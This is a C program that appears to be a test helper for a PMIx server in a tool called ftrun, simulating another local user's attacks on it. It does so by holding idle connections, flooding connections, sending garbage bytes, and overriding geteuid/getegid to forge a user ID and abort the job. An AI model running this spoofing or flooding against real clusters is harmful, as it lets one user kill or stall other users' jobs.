/*
 * The attacks that another user of the machine can try at the port of ftrun's PMIx server. The
 * first argument chooses one:
 *
 *   idle PORT           connects, says nothing, and stays until standard input ends
 *   crowd PORT COUNT    does the same with COUNT connections
 *   garbage PORT COUNT  makes COUNT connections, one after the other, and sends nonsense on each
 *   abort UID           is a PMIx client by the PMIX_* variables that it has, says that it is user
 *                       UID, and aborts the job
 *
 * It prints "tried" when that is done.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pmix.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define PATIENCE_SECONDS 20

static uid_t claimed;

/* libpmix sends the user and group that these functions return. */
__attribute__((visibility("default"))) uid_t geteuid(void)
{
    return claimed;
}

__attribute__((visibility("default"))) gid_t getegid(void)
{
    return claimed;
}

static int call(const char *port)
{
    struct sockaddr_in address = {.sin_family = AF_INET,
                                  .sin_port = htons((uint16_t)atoi(port)),
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0)
        return fd;
    fprintf(stderr, "pmix_stranger: port %s: %s\n", port, strerror(errno));
    if (fd >= 0)
        close(fd);
    return -1;
}

static int tried(void)
{
    printf("tried\n");
    return fflush(stdout);
}

static int crowd(const char *port, int count)
{
    char byte;
    int connected = 0;
    for (int i = 0; i < count; i++)
        connected += call(port) >= 0;
    (void)tried();
    while (read(STDIN_FILENO, &byte, 1) > 0)
        continue;
    return connected > 0 ? 0 : 1;
}

static int garbage(const char *port, int count)
{
    char bytes[4096];
    int sent = 0;
    for (size_t i = 0; i < sizeof(bytes); i++)
        bytes[i] = (char)(i * 37 + 11);
    for (int i = 0; i < count; i++) {
        int fd = call(port);
        if (fd < 0)
            continue;
        sent += send(fd, bytes, sizeof(bytes), MSG_NOSIGNAL) > 0;
        close(fd);
    }
    (void)tried();
    return sent > 0 ? 0 : 1;
}

static int abort_job(uid_t uid)
{
    pmix_proc_t self;
    claimed = uid;
    alarm(PATIENCE_SECONDS);
    pmix_status_t status = PMIx_Init(&self, NULL, 0);
    printf("PMIx_Init: %s\n", PMIx_Error_string(status));
    if (status == PMIX_SUCCESS)
        printf("PMIx_Abort: %s\n", PMIx_Error_string(PMIx_Abort(77, "because", NULL, 0)));
    return tried();
}

int main(int argc, char **argv)
{
    const char *what = argc > 2 ? argv[1] : "";
    if (strcmp(what, "idle") == 0)
        return crowd(argv[2], 1);
    if (strcmp(what, "crowd") == 0 && argc > 3)
        return crowd(argv[2], atoi(argv[3]));
    if (strcmp(what, "garbage") == 0 && argc > 3)
        return garbage(argv[2], atoi(argv[3]));
    if (strcmp(what, "abort") == 0)
        return abort_job((uid_t)atoi(argv[2]));
    fprintf(stderr,
            "pmix_stranger: idle PORT | crowd PORT COUNT | garbage PORT COUNT | abort UID\n");
    return 2;
}
